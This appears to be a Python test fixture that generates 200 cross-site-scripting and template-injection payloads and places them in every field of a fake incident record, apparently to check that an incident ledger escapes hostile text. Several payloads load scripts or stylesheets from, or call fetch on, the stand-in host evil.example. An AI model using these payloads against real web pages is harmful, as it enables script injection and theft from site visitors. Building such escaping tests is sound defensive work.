"""Two hundred texts that would run if a page took them for more than text, and an incident whose every field holds some of them."""

from __future__ import annotations

from itertools import cycle, islice
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Iterator

    from ledger.values import Json

__all__ = ["INCIDENT", "PAYLOADS", "SNAPSHOT_TEXT", "hostile_acts"]

INCIDENT = "hostile"

_CALLS = (
    "__hit()",
    "alert(1)",
    "window.__hit('x')",
    "import('//evil.example/x.js')",
    "fetch('//evil.example/')",
)
_FORMS = (
    "<script>{call}</script>",
    "</script><script>{call}</script>",
    "<img src=x onerror={call}>",
    '<img src=x onerror="{call}">',
    '"><svg onload={call}>',
    "'><svg/onload={call}>",
    "<svg><script>{call}</script></svg>",
    "<svg><animate onbegin={call} attributeName=x dur=1s>",
    "<math><mtext><img src=x onerror={call}></mtext></math>",
    "<body onload={call}>",
    "<iframe srcdoc='<script>parent.{call}</script>'></iframe>",
    "<iframe src=javascript:{call}></iframe>",
    "<object data=javascript:{call}></object>",
    "<embed src=javascript:{call}>",
    "<a href=javascript:{call} autofocus onfocus={call}>x</a>",
    "javascript:{call}",
    "JaVaScRiPt:{call}",
    "data:text/html,<script>{call}</script>",
    "<details open ontoggle={call}>",
    "<input autofocus onfocus={call}>",
    "<select autofocus onfocus={call}>",
    "<marquee onstart={call}>",
    "<video><source onerror={call}>",
    "<style>@import '//evil.example/x.css';</style><style onload={call}></style>",
    "<link rel=stylesheet href=//evil.example/x.css onload={call}>",
    "<base href=//evil.example/?{call}>",
    "<meta http-equiv=refresh content='0;url=javascript:{call}'>",
    "<form action=javascript:{call}><button autofocus>x</button></form>",
    "<template><script>{call}</script></template>",
    '<noscript><p title="</noscript><img src=x onerror={call}>">',
    "{{{{ {call} }}}} {{% {call} %}} ${{{call}}}",
    "{{{{ ''.__class__.__mro__[1].__subclasses__() }}}} {call}",
    "--><script>{call}</script><!--",
    "]]><script>{call}</script>",
    '" autofocus onfocus="{call}" x="',
    "' autofocus onfocus='{call}' x='",
    "\u202e<script>{call}</script>\u202c",
    "\u2066\u2067\u202b<img src=x onerror={call}>",
    "&lt;script&gt;{call}&lt;/script&gt;",
    "\u0085\u2028\u2029<script>{call}</script>",
)
PAYLOADS = tuple(form.format(call=call) for call in _CALLS for form in _FORMS)
"""Each of the forms with each of the calls."""

LINES = tuple(f"{number:03} {text}" for number, text in enumerate(PAYLOADS))
SNAPSHOT_TEXT = "\n".join(LINES)


def _several(texts: Iterator[str], number: int = 3) -> str:
    return " ".join(islice(texts, number))


def hostile_acts() -> list[dict[str, Json]]:
    """The acts of the incident, in their order. Ids are ours, since those of the ledger cannot hold such texts."""
    texts = cycle(PAYLOADS)

    def some(number: int = 3) -> str:
        return _several(texts, number)

    acts: list[dict[str, Json]] = [
        {"op": "open-incident", "id": INCIDENT, "title": some(), "zone": "America/Chicago"},
        {
            "op": "register-source",
            "id": "evil",
            "kind": "article",
            "title": some(),
            "publisher": some(),
            "authors": [some(1), some(1)],
            "url": "https://evil.example/%22%3E%3Cscript%3E__hit()%3C/script%3E?x=javascript:__hit()",
            "published": {
                "as_stated": some(1),
                "earliest": "2021-05-08T00:00:00Z",
                "latest": "2021-05-09T00:00:00Z",
            },
        },
        {"op": "register-source", "id": "copy", "kind": "post", "title": some()},
        {"op": "declare-lineage", "source": "copy", "relation": "copies", "to": "evil"},
        {"op": "capture-snapshot", "source": "evil", "media_type": "text/plain", "text": SNAPSHOT_TEXT},
        {
            "op": "record-notice",
            "source": "copy",
            "type": "correction",
            "summary": some(),
            "scope": "all",
            "published": "2021-05-09",
            "citation": {"id": "n1", "source": "copy"},
        },
    ]
    acts += [_report(number, some) for number in range(12)]
    acts += [
        {
            "op": "correct-fact",
            "incident": INCIDENT,
            "fact": "f0",
            "kind": "drag",
            "statement": some(),
            "class": "wrong-number",
            "cause": "our-misreading",
            "reason": some(),
            "notice": some(),
            "rests_on": ["a0"],
        },
        {
            "op": "retract-fact",
            "incident": INCIDENT,
            "fact": "f1",
            "cause": "duplicate",
            "reason": some(),
            "notice": some(),
            "in_favour_of": "f0",
        },
        {
            "op": "dispute-fact",
            "incident": INCIDENT,
            "fact": "f2",
            "by": some(1),
            "grounds": some(),
            "citations": [{"id": "d1", "source": "evil"}],
        },
        {
            "op": "resolve-dispute",
            "incident": INCIDENT,
            "fact": "f2",
            "dispute": 1,
            "outcome": "left-open",
            "reason": some(),
        },
        {
            "op": "attest-fact",
            "incident": INCIDENT,
            "fact": "f3",
            "attestation": {
                "id": "against",
                "source": "copy",
                "stance": "contradicts",
                "selector": [{"type": "TextQuoteSelector", "exact": some()}],
                "as_stated": {
                    "quantities": [{"id": "distance", "as_stated": some(1), "value": "900", "unit": "[ft_i]"}]
                },
            },
        },
    ]
    return acts


def _report(number: int, some: object) -> dict[str, Json]:
    say = some if callable(some) else str
    quote = LINES[number * 7]
    return {
        "op": "report-fact",
        "incident": INCIDENT,
        "id": f"f{number}",
        "kind": "drag",
        "statement": say(),
        "occurred": {"as_stated": say(1), "edtf": "2021-05-08"},
        "places": [
            {
                "id": "scene",
                "as_stated": say(1),
                "lon": f"-92.3{number}",
                "lat": "34.74",
                "uncertainty_m": 150,
                "role": "scene",
            }
        ],
        "participants": [{"id": "p1", "role": "officer", "as_described": say(1), "name": say(1)}],
        "quantities": [{"id": "distance", "as_stated": say(1), "value": "15", "unit": "[ft_i]"}],
        "details": {"dragged_by": say(1)},
        "citations": [
            {
                "id": f"a{number}",
                "source": "evil",
                "selector": [{"type": "TextQuoteSelector", "exact": quote}],
                "speaker": {"name": say(1), "capacity": say(1)},
            }
        ],
    }
